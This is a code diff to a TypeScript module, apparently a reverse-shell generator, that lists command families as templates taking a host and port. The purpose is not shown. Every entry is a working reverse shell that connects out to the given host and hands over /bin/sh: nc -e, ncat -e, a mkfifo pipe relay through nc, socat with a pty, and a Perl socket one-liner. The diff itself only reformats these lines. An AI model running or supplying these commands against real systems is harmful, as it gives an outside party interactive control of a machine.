@@ -17,16 +17,18 @@ export const FAMILIES: readonly Family[] = [
   { name: 'nc -e', slug: 'nc', command: (h, p) => ['nc', h, String(p), '-e', '/bin/sh'] },
   { name: 'ncat -e', slug: 'ncat', command: (h, p) => ['ncat', h, String(p), '-e', '/bin/sh'] },
   {
-    name: 'named-pipe relay', slug: 'fifo',
+    name: 'named-pipe relay',
+    slug: 'fifo',
     command: (h, p) => ['sh', '-c', `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${h} ${p} > /tmp/f`],
   },
   { name: 'socat exec pty', slug: 'socat', command: (h, p) => ['socat', `TCP:${h}:${p}`, 'EXEC:/bin/sh,pty,stderr,setsid'] },
   {
-    name: 'perl dup2 + sh', slug: 'perl',
+    name: 'perl dup2 + sh',
+    slug: 'perl',
     command: (h, p) => [
-      'perl', '-e',
-      `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${p},inet_aton("${h}")));` +
-        'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");',
+      'perl',
+      '-e',
+      `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${p},inet_aton("${h}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");`,
     ],
   },
 ];
